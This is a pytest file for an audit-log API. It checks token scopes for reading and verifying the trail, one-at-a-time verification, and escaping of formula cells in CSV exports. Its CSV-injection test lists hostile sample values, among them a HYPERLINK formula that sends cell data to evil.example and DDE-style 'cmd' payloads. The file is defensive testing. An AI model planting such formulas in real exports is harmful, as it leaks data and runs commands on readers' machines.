"""Who may read the audit log over the API, and what an export hands a spreadsheet.

Reading the trail (its export and its verification) needs an ``audit`` token: a pipeline's
token and a reviewer's are refused with a message about the audit. One verification runs at
a time per server, so verifiers cannot slow the gates. The CSV export is opened with Python's
``csv`` module, a real parser, after actors, job names and dataset names that start with each
character a spreadsheet takes for a formula went in through the API.
"""

from __future__ import annotations

import csv
import io
import json
import threading
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from fastapi.testclient import TestClient

from sluicegate import audit
from sluicegate.server import create_app
from sluicegate.settings import load_settings
from tests.core.support.serverproc import (
    PII_EXPORT,
    POLICY,
    ROUTINE_READ,
    ThreadServer,
    cli_in_process,
)

REQUESTER = {"orchestrator": "airflow", "job": "crm_export.export_customers", "owner": "carol"}
AUDIT_REFUSAL = "reading the audit needs an audit-scoped token"


pytestmark = pytest.mark.usefixtures("isolated")  # none of the developer's settings leaks in


@pytest.fixture
def sqlite_app(sqlite_url: str) -> Iterator[Any]:
    application = create_app(load_settings(db_url=sqlite_url, policy=str(POLICY)))
    yield application
    application.state.sluicegate.store.close()


@pytest.fixture
def client(sqlite_app: Any) -> Iterator[TestClient]:
    with TestClient(sqlite_app, raise_server_exceptions=False) as c:
        yield c


def bearer(app: Any, principal: str, scope: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {app.state.sluicegate.store.create_token(principal, scope)}"}


def error_of(r: httpx.Response, status: int) -> str:
    assert r.status_code == status, r.text
    body = r.json()
    assert set(body) == {"error", "detail"}, body
    detail: str = body["detail"]
    return detail


# ----------------------------------------------------------------------------- the audit scope


def test_only_an_audit_token_reads_the_audit(sqlite_app: Any, client: TestClient) -> None:
    pipeline = bearer(sqlite_app, "airflow-prod", "request")
    opened = client.post(
        "/api/v1/requests",
        json={"idempotency_key": "k-1", "action": PII_EXPORT, "requester": REQUESTER},
        headers=pipeline,
    )
    assert opened.status_code == 201, opened.text

    for who in (pipeline, bearer(sqlite_app, "alice", "review")):
        for path in ("/api/v1/audit", "/api/v1/audit/verify", "/api/v1/audit?format=csv"):
            detail = error_of(client.get(path, headers=who), 403)
            assert detail.startswith(AUDIT_REFUSAL), detail
            assert "decide" not in detail

    auditor = bearer(sqlite_app, "internal-audit", "audit")
    verified = client.get("/api/v1/audit/verify", headers=auditor)
    assert verified.status_code == 200, verified.text
    assert verified.json()["ok"] is True
    exported = client.get("/api/v1/audit", headers=auditor)
    assert exported.status_code == 200, exported.text
    assert "request.created" in [json.loads(line)["kind"] for line in exported.text.splitlines()]

    # Reading the trail is all it does: it neither opens gates nor decides.
    rid = opened.json()["id"]
    body = {"idempotency_key": "k-2", "action": PII_EXPORT, "requester": REQUESTER}
    error_of(client.post("/api/v1/requests", json=body, headers=auditor), 403)
    refused = client.post(
        f"/api/v1/requests/{rid}/decisions", json={"verdict": "approve"}, headers=auditor
    )
    assert "audit-scoped token can never decide" in error_of(refused, 403)


def test_one_verification_at_a_time_and_the_gates_go_on_meanwhile(
    sqlite_app: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    started, finish = threading.Event(), threading.Event()
    walk = audit.verify

    def slow_verify(*args: Any, **kwargs: Any) -> audit.VerifyResult:
        # Stands for a long chain: the first verification is still walking it.
        started.set()
        finish.wait(20)
        return walk(*args, **kwargs)

    monkeypatch.setattr(audit, "verify", slow_verify)
    auditor, pipeline = (
        bearer(sqlite_app, "internal-audit", "audit"),
        bearer(sqlite_app, "etl", "request"),
    )
    with ThreadServer(sqlite_app) as server, httpx.Client(base_url=server.url, timeout=30) as c:
        first: list[httpx.Response] = []
        walker = threading.Thread(
            target=lambda: first.append(c.get("/api/v1/audit/verify", headers=auditor))
        )
        walker.start()
        try:
            assert started.wait(10)
            second = c.get("/api/v1/audit/verify", headers=auditor)
            assert "another audit verification is running" in error_of(second, 429)
            assert int(second.headers["retry-after"]) > 0

            before = time.monotonic()
            gate = {
                "idempotency_key": f"k-{uuid.uuid4().hex}",
                "action": ROUTINE_READ,
                "requester": REQUESTER,
            }
            allowed = c.post("/api/v1/requests", json=gate, headers=pipeline)
            assert allowed.status_code == 200 and allowed.json()["status"] == "allowed"
            assert time.monotonic() - before < 5
        finally:
            finish.set()
            walker.join(30)
        assert first[0].status_code == 200 and first[0].json()["ok"] is True
        again = c.get("/api/v1/audit/verify", headers=auditor)  # the slot was given back
        assert again.status_code == 200, again.text


# ----------------------------------------------------------------------------- CSV injection

#: Values a pipeline or a token's owner chose, one per way a spreadsheet starts a formula.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "'=1+1",
    '"=1+1',
    " '\"@SUM(1)",
]


def meaningful(cell: str) -> str:
    """The first character a spreadsheet looks at once blanks and quotes are passed over."""
    return cell.lstrip(" \t\r\n\x0b\x0c'\"")[:1]


def evaluated(cell: str) -> bool:
    """Whether a spreadsheet would take ``cell`` for a formula (OWASP's CSV-injection list);
    a cell that starts with ``'`` is text to it."""
    if cell.startswith("'"):
        return False
    first = meaningful(cell)
    return cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n") or (first != "" and first in "=+-@")


def test_a_csv_export_holds_no_cell_a_spreadsheet_would_evaluate(
    sqlite_app: Any, client: TestClient, sqlite_url: str, tmp_path: Path
) -> None:
    for i, value in enumerate(FORMULAS):
        pipeline = bearer(sqlite_app, value, "request")
        action = {
            **PII_EXPORT,
            "summary": value,
            "outputs": [{"namespace": "s3://partner-share", "name": value}],
        }
        body = {
            "idempotency_key": f"k-{i}",
            "action": action,
            "requester": {**REQUESTER, "job": value},
        }
        opened = client.post("/api/v1/requests", json=body, headers=pipeline)
        assert opened.status_code == 201, opened.text
        # A review token named like a formula tries to decide: a refusal with that actor.
        stranger = bearer(sqlite_app, value, "review")
        path = f"/api/v1/requests/{opened.json()['id']}/decisions"
        assert client.post(path, json={"verdict": "approve"}, headers=stranger).status_code == 403

    auditor = bearer(sqlite_app, "internal-audit", "audit")
    as_jsonl = client.get("/api/v1/audit", headers=auditor)
    assert as_jsonl.status_code == 200, as_jsonl.text
    rows = [json.loads(line) for line in as_jsonl.text.splitlines()]
    # JSON Lines are unchanged: every value as the API took it (the model trims job names).
    actors, jobs = {row["actor"] for row in rows}, {row["job"] for row in rows}
    for value in FORMULAS:
        assert value in actors and value.strip() in jobs, value
    assert sum(evaluated(str(v)) for row in rows for v in row.values() if v is not None) >= 40

    as_csv = client.get("/api/v1/audit", params={"format": "csv"}, headers=auditor)
    assert as_csv.status_code == 200, as_csv.text
    out = tmp_path / "audit.csv"
    by_cli = cli_in_process(  # the command's own code, in process (test_cli runs the script)
        "audit", "export", "--db", sqlite_url, "--format", "csv", "-o", str(out)
    )
    assert by_cli.returncode == 0, by_cli.stderr
    with open(out, newline="") as f:  # as a spreadsheet reads it: line breaks as written
        from_cli = f.read()
    for text in (as_csv.text, from_cli):
        table = list(csv.reader(io.StringIO(text, newline="")))
        assert table[0] == ["seq", "ts", "kind", "request_id", "actor", "job", "datasets",
                            "data", "prev_hash", "hash"]  # fmt: skip
        bad = [cell for line in table for cell in line if evaluated(cell)]
        assert bad == [], bad
        # Nothing is lost: one leading ' taken off gives the stored value back. (The
        # notifier may have added rows since the JSON export: those are compared by seq.)
        by_seq = {int(line[0]): line for line in table[1:]}
        for row in rows:
            line = by_seq[row["seq"]]
            for cell, name in zip(line[4:6], ("actor", "job"), strict=True):
                original = cell[1:] if cell.startswith("'") else cell
                assert original == (row[name] or ""), (cell, row[name])
